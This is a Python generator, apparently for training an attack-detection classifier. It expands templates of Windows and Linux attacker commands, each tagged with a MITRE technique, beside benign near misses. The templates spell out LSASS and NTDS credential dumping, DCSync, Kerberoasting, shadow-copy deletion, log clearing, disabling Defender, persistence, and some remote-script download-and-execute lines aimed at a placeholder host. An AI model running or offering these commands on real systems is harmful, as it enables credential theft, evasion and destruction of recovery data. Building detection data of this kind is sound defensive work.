"""Commands of the techniques that public rule sets name most, each technique by many tools, with near misses beside them."""

from __future__ import annotations

import random
from collections.abc import Iterator

from mitre_core.event_text import Event
from training.example import BENIGN, Example
from training.forms import wrap_command
from training.generators.attack_classic_access import CLASSIC_ACCESS_LINES
from training.generators.attack_classic_discovery import CLASSIC_DISCOVERY_LINES
from training.generators.attack_classic_execution import CLASSIC_EXECUTION_LINES
from training.generators.attack_classic_impact import CLASSIC_IMPACT_LINES
from training.generators.attack_classic_near import CLASSIC_NEAR_LINES
from training.generators.attack_classic_secrets import CLASSIC_SECRET_LINES
from training.generators.attack_lines_access import ACCESS_LINES
from training.generators.attack_lines_bare import BARE_LINES
from training.generators.attack_lines_discovery import DISCOVERY_LINES
from training.generators.attack_lines_dumping import DUMPING_LINES
from training.generators.attack_lines_emulated import EMULATED_LINES
from training.generators.attack_lines_evasion import EVASION_LINES
from training.generators.attack_lines_execution import EXECUTION_LINES
from training.generators.attack_lines_more_access import LOOKING_LINES
from training.generators.attack_lines_more_evasion import HIDING_LINES
from training.generators.attack_lines_more_persistence import PERSISTENCE_LINES
from training.generators.attack_lines_rare_access import RARE_ACCESS_LINES
from training.generators.attack_lines_rare_hosts import RARE_HOST_LINES
from training.generators.attack_linux import LINUX_LINES
from training.generators.attack_linux_hosts import LINUX_HOST_LINES
from training.generators.attack_linux_recorded import RECORDED_LINUX_LINES
from training.generators.attack_linux_rules import LINUX_RULE_LINES
from training.generators.attack_scripts import SCRIPT_TEMPLATES
from training.generators.evasion import evade
from training.generators.event_rows import Row, distinct_examples
from training.generators.grammar import SLOTS, Template, expand, parse_templates, split_alternatives

SOURCE = "attack-commands"
_EVADED = 0.15

# Every row names its technique with `+`; a row without one is a near miss.
COMMAND_TEMPLATES = parse_templates(
    r"""
procdump-lsass cmd +T1003.001: «procdump¦procdump64¦procdump.exe¦‹dir›\procdump64.exe¦‹dir›\‹name›.exe» «-accepteula ¦/accepteula ¦»«-ma¦-mm¦/ma¦-mp¦-r -ma» «lsass.exe¦lsass¦"lsass.exe"» ‹dir›\‹name›«.dmp¦»
procdump-lsass-pid cmd +T1003.001: «procdump64.exe¦‹dir›\procdump.exe» -accepteula -ma ‹pid› ‹dir›\lsass«_‹n›¦».dmp
comsvcs-minidump cmd +T1003.001: «rundll32¦rundll32.exe¦C:\Windows\System32\rundll32.exe» «C:\windows\system32\comsvcs.dll¦comsvcs.dll¦C:\Windows\System32\comsvcs.dll»«,¦, ¦ »«MiniDump¦#24¦minidump¦#+000024» ‹pid› ‹dir›\‹name›.«dmp¦bin¦txt¦log» full
comsvcs-loop cmd +T1003.001: for /f "tokens=1,2 delims= " %A in ('"tasklist /fi "Imagename eq lsass.exe" | find "lsass""') do rundll32.exe C:\windows\System32\comsvcs.dll, «#24¦MiniDump» %B ‹dir›\‹name›.dmp full
comsvcs-ps powershell +T1003.001: «rundll32.exe¦& rundll32» C:\Windows\System32\comsvcs.dll, «MiniDump¦#24» (Get-Process lsass).Id «$env:TEMP\‹name›.dmp¦‹dir›\‹name›.dmp» full
mimikatz-logon cmd +T1003.001: «mimikatz¦mimikatz.exe¦‹dir›\mimikatz.exe¦‹dir›\‹name›.exe» «privilege::debug ¦"privilege::debug" ¦"log ‹name›.log" "privilege::debug" »"sekurlsa::«logonpasswords¦logonPasswords full¦msv¦wdigest¦kerberos¦tspkg¦ekeys¦credman»" «exit¦"exit"»
mimikatz-minidump cmd +T1003.001: ‹dir›\«mimikatz¦‹name›».exe "sekurlsa::minidump ‹dir›\‹name›.dmp" "sekurlsa::«logonpasswords¦logonpasswords full¦minidump»" exit
pypykatz-lsa cmd +T1003.001: pypykatz «live lsa¦lsa minidump ‹file›¦lsa minidump ‹file› -k ‹dir›»
pypykatz-linux bash +T1003.001: pypykatz lsa minidump ‹ldir›/«lsass.dmp¦‹name›.dmp»
lsassy bash +T1003.001: lsassy -d ‹fqdn› -u ‹user› «-p '‹pass›'¦-H ‹hash›» ‹ip›« -m comsvcs¦ -m dllinject¦ -m procdump¦»
cme-lsassy bash +T1003.001: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› «-p '‹pass›'¦-H ‹hash›» -M «lsassy¦nanodump¦procdump¦handlekatz¦mimikatz»
nanodump cmd +T1003.001: ‹dir›\«nanodump¦nanodump.x64¦‹name›».exe «--write ‹dir›\‹name›.dmp¦--fork --write ‹dir›\‹name›¦-sc -w ‹dir›\‹name›.dmp --valid¦--snapshot --valid --write ‹dir›\‹name›»
dump-tools cmd +T1003.001: ‹dir›\«Dumpert.exe¦Outflank-Dumpert.exe¦SharpDump.exe¦SafetyKatz.exe¦HandleKatz.exe --pid:‹pid› --outfile:‹name›¦xordump.exe -out ‹dir›\‹name› -x 0x41¦PPLdump.exe lsass.exe ‹dir›\‹name›.dmp¦MirrorDump.exe -f ‹name›¦physmem2profit.exe¦LsassSilentProcessExit.exe ‹pid› 0¦SilentTrinity_lsass.exe»
lolbin-dump cmd +T1003.001: «sqldumper.exe ‹pid› 0 0x0110«¦0:40»¦createdump.exe -u -f ‹dir›\lsass.dmp ‹pid›¦C:\Windows\System32\rdrleakdiag.exe /p ‹pid› /o ‹dir› /fullmemdmp /wait 1¦tttracer.exe -dumpFull -attach ‹pid›¦avdump.exe --pid ‹pid› --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file ‹dir›\lsass.dmp¦DumpMinitool.exe --file ‹dir›\lsass.dmp --processId ‹pid› --dumpType Full¦"C:\Program Files\Cisco Systems\Cisco Jabber\x64\ProcessDump.exe" (ps lsass).id ‹dir›\lsass.dmp»
out-minidump powershell +T1003.001: «Get-Process lsass | Out-Minidump« -DumpFilePath ‹dir›¦»¦. .\Out-Minidump.ps1; Get-Process -Name lsass | Out-Minidump¦IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/Out-Minidump.ps1'); gps lsass | Out-Minidump»
minidump-reflect powershell +T1003.001: $«m¦md» = [PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting').GetNestedType('NativeMethods','NonPublic').GetMethod('MiniDumpWriteDump',[Reflection.BindingFlags]'NonPublic, Static'); $p = Get-Process lsass; $f = New-Object IO.FileStream('‹dir›\‹name›.dmp',[IO.FileMode]::Create)
invoke-mimikatz powershell +T1003.001: «IEX (New-Object Net.WebClient).DownloadString('http«s¦»://‹ip›/«Invoke-Mimikatz¦‹name›».ps1'); ¦Import-Module .\Invoke-Mimikatz.ps1; ¦»Invoke-Mimikatz «-DumpCreds¦-Command '"sekurlsa::logonpasswords"'¦-DumpCreds -ComputerName ‹server›»
taskmgr-dump-copy cmd +T1003.001: «copy¦move¦xcopy» C:\Users\‹user›\AppData\Local\Temp\lsass.DMP «\\‹server›\share\¦‹dir›\»
lsass-werfault cmd +T1003.001: reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe" /v «ReportingMode /t REG_DWORD /d 2¦LocalDumpFolder /t REG_SZ /d ‹dir›» /f
ntdsutil-ifm cmd +T1003.003: «ntdsutil¦ntdsutil.exe» «"ac i ntds"¦"activate instance ntds"¦"ac in ntds"» «"ifm"¦ifm» "«create full¦cr fu¦create sysvol full» ‹dir›« ¦\‹name›»" «q q¦quit quit¦"q" "q"»
ntdsutil-snapshot cmd +T1003.003: ntdsutil «snapshot "activate instance ntds" create quit quit¦snapshot "mount ‹guid›" quit quit¦"snapshot" "list all" "mount ‹n›" "q" "q"»
vss-ntds cmd +T1003.003: «copy¦xcopy /h» ‹vss›\Windows\NTDS\«ntds.dit¦NTDS.dit¦NTDS.DIT» ‹file›
vss-create-ntds cmd +T1003.003: vssadmin«.exe¦» create shadow /for=C: «&&¦&» copy ‹vss›\windows\ntds\ntds.dit ‹file›
esentutl-ntds cmd +T1003.003: «esentutl¦esentutl.exe» /y «/vss C:\Windows\NTDS\ntds.dit¦‹vss›\Windows\NTDS\ntds.dit» /d ‹file›
diskshadow-ntds cmd +T1003.003: «diskshadow /s ‹file› && ¦»copy «z¦x¦s»:\windows\ntds\ntds.dit ‹dir›\
wmic-ntds cmd +T1003.003: wmic /node:‹server› /user:‹domain›\‹user› /password:‹pass› process call create "cmd /c vssadmin create shadow /for=C: & copy ‹vss›\Windows\NTDS\NTDS.dit C:\‹name›"
wbadmin-ntds cmd +T1003.003: wbadmin start backup -backupTarget:\\‹server›\share -include:C:\Windows\NTDS\NTDS.dit,C:\Windows\System32\config\SYSTEM -quiet
secretsdump-ntds bash +T1003.003: «secretsdump.py¦impacket-secretsdump» -ntds ‹lfile› -system ‹lfile›« -hashes lmhash:nthash¦» LOCAL
secretsdump-vss bash +T1003.003: «secretsdump.py¦impacket-secretsdump» -use-vss ‹domain›/‹user›:'‹pass›'@‹ip›
cme-ntds bash +T1003.003: «crackmapexec¦cme¦nxc¦netexec» smb ‹ip› -u ‹user› «-p '‹pass›'¦-H ‹hash›» «--ntds¦--ntds vss¦-M ntdsutil»
ps-ntds powershell +T1003.003: «Invoke-NinjaCopy -Path "C:\Windows\NTDS\ntds.dit" -LocalDestination "‹dir›\‹name›"¦Copy-Item "‹vss›\Windows\NTDS\ntds.dit" ‹dir›¦Get-ADDBAccount -All -DBPath '‹dir›\ntds.dit' -BootKey ‹hash›¦[System.IO.File]::Copy('‹vss›\Windows\NTDS\ntds.dit','‹dir›\‹name›')»
dsdbutil cmd +T1003.003: dsdbutil.exe "activate instance ntds" "snapshot" "create" "quit" "quit"
mklink-ntds cmd +T1003.003: mklink /D C:\‹name› ‹vss›\ & copy C:\‹name›\Windows\NTDS\ntds.dit ‹dir›
dcsync-mimikatz cmd +T1003.006: «mimikatz.exe¦‹dir›\‹name›.exe» "lsadump::dcsync /«domain:‹fqdn› ¦»/«user:‹domain›\krbtgt¦user:‹user›¦all /csv»" «exit¦"exit"»
dcsync-ps powershell +T1003.006: «Invoke-Mimikatz -Command '"lsadump::dcsync /user:‹domain›\krbtgt"'¦Invoke-DCSync -PWDumpFormat¦Get-ADReplAccount -SamAccountName ‹user› -Server ‹server›¦Get-ADReplAccount -All -Server ‹server›»
dcsync-linux bash +T1003.006: «secretsdump.py¦impacket-secretsdump» -just-dc«-user krbtgt¦-ntlm¦» ‹domain›/‹user›:'‹pass›'@‹ip›
cached-creds cmd +T1003.005: «mimikatz.exe¦‹dir›\‹name›.exe» «privilege::debug token::elevate ¦»"lsadump::cache" exit
rubeus-roast cmd +T1558.003: «Rubeus.exe¦‹dir›\Rubeus.exe¦‹dir›\‹name›.exe» kerberoast «/outfile:‹file›¦/format:hashcat /nowrap¦/stats¦/user:‹user›»
rubeus-asrep cmd +T1558.004: «Rubeus.exe¦‹dir›\‹name›.exe» asreproast «/format:hashcat¦/outfile:‹file›¦/nowrap»
roast-ps powershell +T1558.003: «Invoke-Kerberoast -OutputFormat Hashcat | fl¦Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList 'MSSQLSvc/‹host›.‹fqdn›:1433'»
roast-linux bash +T1558.003: «GetUserSPNs.py¦impacket-GetUserSPNs» -request -dc-ip ‹ip› ‹fqdn›/‹user›:'‹pass›'
domain-users cmd +T1087.002: «net user /domain¦net user ‹user› /domain¦dsquery user -limit 0¦dsquery * -filter "(objectClass=user)"¦adfind.exe -f "(objectcategory=person)"¦‹dir›\AdFind.exe -sc admincountdmp»
domain-users-ps powershell +T1087.002: «Get-ADUser -Filter * -Properties *¦Get-DomainUser -SPN¦Get-NetUser | select samaccountname¦([adsisearcher]'(objectCategory=user)').FindAll()¦Get-DomainUser -AdminCount»
shadow-delete cmd +T1490: «vssadmin¦vssadmin.exe» «delete shadows /all /quiet¦delete shadows /for=C: /oldest¦resize shadowstorage /for=C: /on=C: /maxsize=401MB»
shadow-delete-wmic cmd +T1490: «wmic shadowcopy delete¦wmic.exe shadowcopy where "ID='‹guid›'" delete /nointeractive¦wbadmin delete catalog -quiet¦wbadmin delete systemstatebackup -keepVersions:0¦bcdedit /set {default} recoveryenabled No¦bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures»
shadow-delete-ps powershell +T1490: «Get-WmiObject¦gwmi¦Get-CimInstance» Win32_ShadowCopy | «ForEach-Object { $_.Delete() }¦% { $_.Delete() }¦Remove-WmiObject¦Remove-CimInstance»
log-clear cmd +T1685.005: «wevtutil¦wevtutil.exe» «cl¦clear-log» «Security¦System¦Application¦"Windows PowerShell"¦Microsoft-Windows-Sysmon/Operational»
log-clear-loop cmd +T1685.005: for /F "tokens=*" %1 in ('wevtutil.exe el') DO wevtutil.exe cl "%1"
log-clear-ps powershell +T1685.005: «Clear-EventLog -LogName «Security¦System¦Application»¦Get-EventLog -List | % { Clear-EventLog $_.Log }¦wevtutil el | Foreach-Object {wevtutil cl "$_"}¦Remove-EventLog -LogName ‹Word›»
defender-off-ps powershell +T1685: «Set-MpPreference -Disable«RealtimeMonitoring¦BehaviorMonitoring¦IOAVProtection¦ScriptScanning» «$true¦1»¦Add-MpPreference -Exclusion«Path ‹dir›¦Extension .exe¦Process ‹name›.exe»¦Uninstall-WindowsFeature -Name Windows-Defender¦Set-MpPreference -MAPSReporting 0»
defender-off-cmd cmd +T1685: «sc stop WinDefend¦sc config WinDefend start= disabled¦net stop WinDefend¦"C:\Program Files\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All¦reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f¦taskkill /f /im MsMpEng.exe»
schtask-create cmd +T1053.005: «schtasks¦schtasks.exe» /create «/f ¦»/«tn¦TN» «"‹Word›Update"¦‹name›» /«tr¦TR» "«powershell -w hidden -enc ‹enc›¦cmd.exe /c ‹dir›\‹name›.bat¦‹dir›\‹name›.exe¦mshta http://‹ip›/‹name›¦rundll32 ‹dir›\‹name›.dll,‹Word›»" /sc «onlogon¦minute /mo ‹n›¦once /st 10:00¦daily¦onstart /ru system»
schtask-ps powershell +T1053.005: $a = New-ScheduledTaskAction -Execute «'powershell.exe' -Argument '-w hidden -f ‹dir›\‹name›.ps1'¦'‹dir›\‹name›.exe'»; Register-ScheduledTask -TaskName ‹name› -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)
service-create cmd +T1543.003: sc«.exe¦» «\\‹server› ¦»create ‹name› binPath= "«cmd.exe /c ‹dir›\‹name›.bat¦‹dir›\‹name›.exe¦powershell -nop -w hidden -enc ‹enc›»"« start= auto¦ type= own start= demand¦»
service-create-ps powershell +T1543.003: New-Service -Name ‹name› -BinaryPathName "‹dir›\‹name›.exe"« -StartupType Automatic¦»
run-key-cmd cmd +T1547.001: «reg¦reg.exe» add «"HKCU¦"HKLM»\Software\Microsoft\Windows\CurrentVersion\«Run¦RunOnce»" /v ‹name› /t REG_SZ /d "«‹dir›\‹name›.exe¦powershell -w hidden -f ‹dir›\‹name›.ps1¦C:\Users\Public\‹name›.vbs»" /f
run-key-ps powershell +T1547.001: «Set-ItemProperty¦New-ItemProperty» -Path "«HKCU¦HKLM»:\Software\Microsoft\Windows\CurrentVersion\«Run¦RunOnce»" -Name ‹name› -Value "‹dir›\‹name›.«exe¦vbs¦bat»"
near-procdump cmd: «procdump¦procdump64.exe» «-accepteula ¦»-ma «w3wp.exe¦‹name›.exe¦‹pid›¦outlook¦-e ‹name›.exe» ‹dir›\‹name›.dmp
near-rundll cmd: rundll32.exe «C:\Windows\System32\comsvcs.dll,DllGetClassObject¦shell32.dll,Control_RunDLL ‹name›.cpl¦C:\Program Files\‹Word›\‹name›.dll,Start»
lsass-looked-up cmd +T1057: tasklist«.exe¦» «/fi¦/FI» "«imagename¦IMAGENAME» eq lsass.exe"
near-tasklist cmd: «tasklist /fi "imagename eq svchost.exe"¦tasklist /svc /fi "imagename eq ‹name›.exe"¦wmic process where name="lsass.exe" get workingsetsize»
near-get-process powershell: «Get-Process lsass | select WorkingSet,CPU¦Get-Process ‹name› | Format-List *¦(Get-Process -Name lsass).HandleCount»
near-ntdsutil cmd: ntdsutil «"metadata cleanup" "remove selected server ‹server›" q q¦"activate instance ntds" files integrity quit quit¦"set dsrm password" "reset password on server null" q q¦roles connections "connect to server ‹server›" q "transfer pdc" q q¦"semantic database analysis" go q q»
near-ntds-folder cmd: «dir C:\Windows\NTDS¦icacls C:\Windows\NTDS¦repadmin /showrepl¦dcdiag /v¦esentutl /mh ‹dir›\‹name›.edb¦esentutl /g "C:\ProgramData\‹Word›\‹name›.edb"»
near-vssadmin cmd: vssadmin «list shadows¦list shadowstorage¦list writers¦create shadow /for=D:¦resize shadowstorage /for=D: /on=D: /maxsize=‹n›GB»
near-bcdedit cmd: «bcdedit¦bcdedit /enum all¦bcdedit /set {default} description "‹Word›"¦wbadmin get versions¦wbadmin start backup -backupTarget:E: -include:D: -quiet»
near-wevtutil cmd: wevtutil «qe System /c:‹n› /f:text¦gl Security¦el¦sl Application /ms:‹pid›000»
near-eventlog powershell: «Get-EventLog -LogName Security -Newest ‹n›¦Get-WinEvent -ListLog *¦Limit-EventLog -LogName Application -MaximumSize ‹n›MB¦New-EventLog -LogName Application -Source ‹Word›»
near-defender powershell: «Set-MpPreference -DisableRealtimeMonitoring $false¦Get-MpPreference | select ScanScheduleDay¦Set-MpPreference -ScanScheduleDay ‹n›¦Update-MpSignature¦Remove-MpPreference -ExclusionPath ‹dir›»
near-schtasks cmd: schtasks «/query /fo LIST /v¦/run /tn "\‹Word› Backup"¦/change /tn "‹Word› Backup" /disable¦/delete /tn ‹name› /f¦/query /tn "\Microsoft\Windows\Defrag\ScheduledDefrag"»
near-service cmd: sc «query ‹name›¦qc ‹name›¦start ‹name›¦config ‹name› start= auto¦failure ‹name› reset= 60 actions= restart/5000¦\\‹server› query»
near-run-key cmd: reg «query "HKLM\Software\‹Word›\‹Word›\Run" /v Last¦add "HKCU\Software\‹Word›\Run" /v ‹name› /d ‹n› /f¦query "HKCU\Software\‹Word›\AutoStart" /ve¦delete "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v ‹Word› /f»
near-klist cmd: «klist¦klist purge¦setspn -L ‹user›¦klist get krbtgt¦kinit ‹user›@‹fqdn›»
"""
)


_THEMES = (
    COMMAND_TEMPLATES,
    ACCESS_LINES,
    DUMPING_LINES,
    EVASION_LINES,
    DISCOVERY_LINES,
    LINUX_LINES,
    EXECUTION_LINES,
    HIDING_LINES,
    LOOKING_LINES,
    PERSISTENCE_LINES,
    BARE_LINES,
    RARE_ACCESS_LINES,
    RARE_HOST_LINES,
    EMULATED_LINES,
    LINUX_HOST_LINES,
    SCRIPT_TEMPLATES,
    RECORDED_LINUX_LINES,
    LINUX_RULE_LINES,
    CLASSIC_ACCESS_LINES,
    CLASSIC_SECRET_LINES,
    CLASSIC_DISCOVERY_LINES,
    CLASSIC_EXECUTION_LINES,
    CLASSIC_IMPACT_LINES,
    CLASSIC_NEAR_LINES,
)
# With the files of more lines, a file a theme; a command that is told apart by its words is a group of its own.
TEMPLATES = tuple(part for theme in _THEMES for one in theme for part in split_alternatives(one))


def generate(count: int, rng: random.Random) -> Iterator[Example]:
    """`count` commands as events: attacks and near misses, each template as often as the others."""
    rows = [(f"{SOURCE}/{one.name}", _row(one)) for one in TEMPLATES]
    return distinct_examples(lambda chance: chance.choice(rows), SOURCE, count, rng)


def _row(template: Template) -> Row:
    label = template.also[0] if template.also else BENIGN

    def make(rng: random.Random) -> tuple[Event, str]:
        command = expand(template.pattern, rng, SLOTS)
        if template.shell == "text":  # what a tool prints or an operator types: no log holds it as a process
            return {"text": command}, label
        if rng.random() < _EVADED:
            command = evade(command, rng, shell=template.shell, can_rename=label != BENIGN)
        platform = "linux" if template.shell == "bash" else "windows"
        event = wrap_command(command, rng, platform=platform, shell=template.shell, is_attack=label != BENIGN)
        return event, label

    return make
